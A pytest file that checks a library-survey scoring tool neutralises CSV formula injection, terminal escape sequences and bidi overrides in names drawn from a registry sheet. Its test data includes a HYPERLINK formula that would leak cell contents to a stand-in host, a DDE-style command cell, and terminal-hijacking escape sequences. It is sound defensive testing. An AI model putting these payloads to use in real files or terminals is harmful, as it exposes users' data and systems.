"""Safe output: no formula-leading CSV cell and no terminal control sequence, whatever the sheet holds."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from tpbis.cli import main
from tpbis.render import csv_cell, csv_text, terminal_text
from tpbis.render.safe import SHEETS_CELL_LIMIT, cap_cell

ROOT = Path(__file__).resolve().parents[2]
RESPONSES = ROOT / "examples" / "kepri-2024-responses.csv"
REGISTRY = ROOT / "examples" / "kepri-2024-registry.csv"

#: Library names a respondent or an editor of the registry could type.
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.invalid/?x="&A1,"klik")',
    "\x1b]0;pwn\x07Perpustakaan Judul",
    "Perpustakaan\x1b[2J Bersih\x1b[31m",
    "+SUM(1,2)",
    "@cmd|' /C calc'!A0",
    "-2+3",
    "\tTab Awal",
    "\rCarriage",
    "Nama\x9b31m C1\x85",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]")


@pytest.fixture(scope="module")
def hostile_registry(tmp_path_factory: pytest.TempPathFactory) -> str:
    """The example registry with hostile names (old names kept as aliases) and a hostile regency."""
    with REGISTRY.open(encoding="utf-8", newline="") as fp:
        rows = list(csv.DictReader(fp))
    for row, name in zip(rows, HOSTILE_NAMES, strict=False):
        row["alias"] = "; ".join(filter(None, [row["alias"], row["nama"]]))
        row["nama"] = name
    rows[1]["kabupaten_kota"] = "=1+1"
    path = tmp_path_factory.mktemp("hostile") / "registry.csv"
    with path.open("w", encoding="utf-8", newline="") as fp:
        writer = csv.DictWriter(fp, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return str(path)


def _run(capsys: pytest.CaptureFixture[str], *argv: str) -> str:
    assert 0 == main(list(argv))
    return capsys.readouterr().out


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _formula_cells(text: str) -> list[str]:
    """Cells of a CSV text that a spreadsheet would run as formulas (numbers excepted)."""
    return [c for row in csv.reader(io.StringIO(text)) for c in row if c.startswith(FORMULA_START) and not _is_number(c)]


class TestCsvCell:
    """One cell made safe."""

    @pytest.mark.parametrize("text", ["=1+1", "+1", "-x", "@A1", "\tx", "\rx"])
    def test_formula_text_is_quoted(self, text: str) -> None:
        """Text that starts a formula gets a leading apostrophe."""
        assert "'" + text == csv_cell(text)

    @pytest.mark.parametrize("value", [-3.5, -2, 0, "Perpustakaan", "", None, "a=b", "1-2"])
    def test_other_values_stay(self, value: object) -> None:
        """Numbers (negative ones too) and ordinary text are unchanged."""
        assert value == csv_cell(value)

    def test_csv_text_quotes_the_header_and_the_rows(self) -> None:
        """Every cell of the header and the rows goes through csv_cell."""
        assert "'=h,x\n'@a,-1.5\n" == csv_text(["=h", "x"], [["@a", -1.5]])


class TestTerminalText:
    """Text printed on a terminal cannot steer it."""

    @pytest.mark.parametrize(
        ("text", "expected"),
        [
            ("\x1b]0;pwn\x07Perpus", "Perpus"),
            ("a\x1b[2Jb", "ab"),
            ("a\x1b[31;1mb\x1b[0m", "ab"),
            ("a\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\b", "alinkb"),
            ("a\x9b2Jb", "ab"),
            ("a\x07\x08\x00\tb\rc", "abc"),
            ("baris satu\nbaris dua", "baris satu\nbaris dua"),
            ("a\x1bPq#0;2;0;0;0\x1b\\b", "ab"),
        ],
    )
    def test_strips_sequences_and_controls(self, text: str, expected: str) -> None:
        """Escape sequences (CSI, OSC, DCS, 8-bit CSI) and control characters go; newlines stay."""
        assert expected == terminal_text(text)

    def test_unterminated_sequence_stops_at_the_line_end(self) -> None:
        """An OSC without its terminator cannot swallow the following lines."""
        assert "a\nnext" == terminal_text("a\x1b]0;pwn\nnext")


class TestCommandsWithHostileNames:
    """Hostile library and regency names through score and awards, CSV and tables."""

    def test_score_csv_has_no_formula_cells(self, capsys: pytest.CaptureFixture[str], hostile_registry: str) -> None:
        """tpbis score --format csv: every hostile name is quoted, numbers stay numbers."""
        out = _run(capsys, "score", str(RESPONSES), "--registry", hostile_registry, "--period", "2024-09",
                   "--format", "csv")
        names = [row[1] for row in csv.reader(io.StringIO(out))][1:]
        assert [] == _formula_cells(out)
        assert "'" + HOSTILE_NAMES[0] in names
        assert "'-2+3" in names

    def test_awards_csv_has_no_formula_cells(self, capsys: pytest.CaptureFixture[str], hostile_registry: str) -> None:
        """tpbis awards --format csv: the same."""
        out = _run(capsys, "awards", str(RESPONSES), "--registry", hostile_registry, "--period", "2024-09",
                   "--format", "csv")
        assert [] == _formula_cells(out)
        assert "'+SUM(1,2)" in out

    @pytest.mark.parametrize("command", ["score", "awards"])
    def test_tables_have_no_control_characters(
        self, capsys: pytest.CaptureFixture[str], hostile_registry: str, command: str
    ) -> None:
        """The terminal tables carry no escape or other control character, and still show the names."""
        out = _run(capsys, command, str(RESPONSES), "--registry", hostile_registry, "--period", "2024-09",
                   "--no-color" if command == "score" else "--lang=id")
        assert [] == CONTROL.findall(out)
        if command == "score":
            assert "Perpustakaan Judul" in out
            assert "Perpustakaan Bersih" in out

    def test_problem_listing_has_no_control_characters(
        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
    ) -> None:
        """tpbis score --problems prints sheet values without their control sequences."""
        lines = RESPONSES.read_text(encoding="utf-8").splitlines()
        header, first = lines[0], lines[1].split(",")
        first[2] = "\x1b]0;pwn\x07Perpustakaan Hantu"
        responses = tmp_path / "responses.csv"
        responses.write_text("\n".join([header, ",".join(first), *lines[2:]]) + "\n", encoding="utf-8")
        out = _run(capsys, "score", str(responses), "--registry", str(REGISTRY), "--period", "2024-09",
                   "--no-color", "--problems")
        assert [] == CONTROL.findall(out)
        assert "Perpustakaan Hantu" in out


class TestCapCell:
    """Cells longer than a spreadsheet holds are cut with a visible marker, never refused."""

    def test_within_the_limit_unchanged(self) -> None:
        """Text that fits is returned as it is."""
        assert "x" * 50_000 == cap_cell("x" * 50_000, SHEETS_CELL_LIMIT)

    def test_cut_to_the_limit_with_a_marker(self) -> None:
        """A 50,084-character cell (measured by a hostile tester) becomes exactly 50,000 with the count cut."""
        capped = cap_cell("x" * 50_084, SHEETS_CELL_LIMIT)
        assert (SHEETS_CELL_LIMIT, "… [+91]") == (len(capped), capped[-7:])

    def test_small_limits(self) -> None:
        """The marker's own length is accounted for."""
        assert "ab… [+8]" == cap_cell("abcdefghij", 8)

    def test_sheets_writer_caps_cells(self) -> None:
        """The Sheets adapter never sends a cell over Google's documented limit."""
        from tpbis.adapters.sheets import _cell_json

        cell = _cell_json("=" + "y" * 60_000, None, False)
        assert SHEETS_CELL_LIMIT == len(cell["userEnteredValue"]["stringValue"])


class TestBidiOverrides:
    """Right-to-left overrides in a name cannot reverse what the terminal prints after it."""

    def test_overrides_and_isolates_are_removed(self) -> None:
        """U+202E and the isolates go; ordinary Arabic or Hebrew letters stay."""
        assert "Perpus 49.0 merah \u05d0" == terminal_text("Perpus\u202e 49.0\u2066 merah\u2069 \u05d0")
